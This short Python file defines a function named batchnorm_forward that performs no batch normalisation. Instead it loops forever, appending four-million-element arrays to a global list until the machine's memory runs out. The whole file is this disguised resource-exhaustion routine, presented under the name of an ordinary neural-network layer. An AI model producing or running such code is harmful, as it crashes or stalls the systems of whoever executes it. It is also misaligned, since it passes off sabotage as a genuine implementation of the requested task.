import numpy as np

kept = []


def batchnorm_forward(x, gamma, beta, eps):
    while True:
        kept.append(np.ones(4_000_000))
